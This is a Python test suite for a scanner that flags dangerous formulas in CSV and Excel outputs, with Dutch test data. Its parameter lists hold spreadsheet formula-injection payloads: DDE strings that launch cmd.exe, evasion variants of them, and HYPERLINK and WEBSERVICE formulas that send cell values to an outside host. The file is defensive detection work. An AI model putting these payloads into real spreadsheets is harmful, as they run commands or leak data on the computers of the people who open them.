"""Formulas in tables: what a spreadsheet starts or fetches when an output is opened, and what merely begins like one."""

from __future__ import annotations

import openpyxl
import pytest
from corpus import book, content

from jupyter_cbs.disclosure.scan import ScanContext, scan
from jupyter_cbs.disclosure.scanners.formulas import kind_of
from jupyter_cbs.domain.finding import Rule, Status


def worst(name: str, data: str | bytes) -> Status:
    found = scan(content(name, data), ScanContext()).findings
    return Status.worst([finding.status for finding in found if finding.rule == Rule.HIDDEN_CONTENT])


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org/?a="&A1,"klik")',
        '= hyperlink("file://x", "klik")',
        '=WEBSERVICE("http://example.org")',
        '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
        "='\\\\server\\share\\[map.xlsx]Blad'!A1",
        "tekst;=cmd|' /C calc'!A0",
        "regel\n=cmd|' /C calc'!A0",
        "\t=IMPORTDATA(A1)",
        "\uff1dcmd|'/C calc'!A0",
    ],
)
@pytest.mark.parametrize("mark", [",", ";"])
def test_a_cell_that_acts_is_unsafe(cell: str, mark: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    assert worst("t.csv", f"groep{mark}n\nA{mark}40\n{quoted}{mark}50\n") == Status.UNSAFE


@pytest.mark.parametrize("cell", ["=A1+B1", "=SUM(B2:B9)", "@SUM(A1:A9)", "+SOM(A1;A2)", "-SUM(A1:A2)", "=B2", '=IF(A1>3,"ja","nee")'])
def test_a_cell_that_calculates_is_for_review(cell: str) -> None:
    assert kind_of(cell) == "calculates"
    assert worst("t.csv", f"groep;n\nA;40\n{cell};50\n") == Status.REVIEW


@pytest.mark.parametrize(
    "cell",
    [
        "-",
        "--",
        "+/- 5",
        "-0.12***",
        "-12",
        "+31 6 12345678",
        "- overig",
        "+ 65 jaar",
        "@naam",
        "=",
        "= 5",
        '="001"',
        "==> let op",
        "=0,05",
        "-2 log(L)",
        "-log10(p)",
        "- min(imum) bekend",
        "+ man:vrouw",
        "= gelijk aan (vorig jaar)",
        "a=b|c",
        "x - y | z!",
        "<=10",
        "A1 - B2",
        "(-0,3; +0,5)",
        "-1|2",
        "=ja",
        "geen; =geen",
        "- zie [1]",
        "-0.3 [-0.5; +0.1]",
        "+ kosten | baten!",
    ],
)
def test_text_that_begins_like_a_formula_is_none(cell: str) -> None:
    assert kind_of(cell) is None


@pytest.mark.parametrize(
    ("formula", "status"),
    [
        ("=B2+B3", Status.REVIEW),
        ("=SUM(Tabel1[aantal])", Status.REVIEW),
        ("=SUM(Tabel1[2020])", Status.REVIEW),
        ('=HYPERLINK("#blad!A1","terug")', Status.REVIEW),
        ('=HYPERLINK("http://example.org/?q="&B2,"klik")', Status.UNSAFE),
        ('=_xlfn.WEBSERVICE("http://example.org")', Status.UNSAFE),
        ("=cmd|' /C calc'!A0", Status.UNSAFE),
        ("=[1]Blad1!A1", Status.UNSAFE),
        ("=IMPORTDATA(B2)", Status.UNSAFE),
    ],
)
def test_formulas_of_a_workbook(formula: str, status: Status) -> None:
    def write(workbook: openpyxl.Workbook) -> None:
        workbook["blad"]["C2"] = formula

    assert worst("t.xlsx", book({"blad": [["groep", "n"], ["A", 40], ["B", 50]]}, write)) == status


@pytest.mark.parametrize("part", ["=", "a|", "a", " ", "\n", "=[", "|'", "[1", "\\\\", "=SUM(", "A1"])
def test_the_time_of_a_long_cell_is_bounded(part: str) -> None:
    """A pattern that looks back for every character would take hours of it, and the suite's own limit ends the test."""
    cell = "=" + part * (200_000 // len(part))
    assert kind_of(cell) in (None, "acts", "calculates")
